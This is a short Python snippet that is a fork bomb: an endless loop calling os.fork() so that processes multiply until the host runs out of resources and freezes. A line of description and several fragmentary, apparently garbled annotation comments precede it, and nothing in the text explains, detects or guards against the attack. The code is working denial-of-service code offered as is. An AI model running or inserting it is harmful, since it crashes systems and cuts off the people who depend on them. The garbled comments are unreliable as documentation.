# Processes that become ever more.
# keeps: scale
# perhaps: counts detect by_service
# because: .
# %% cutoff
import os

while True:
    os.fork()
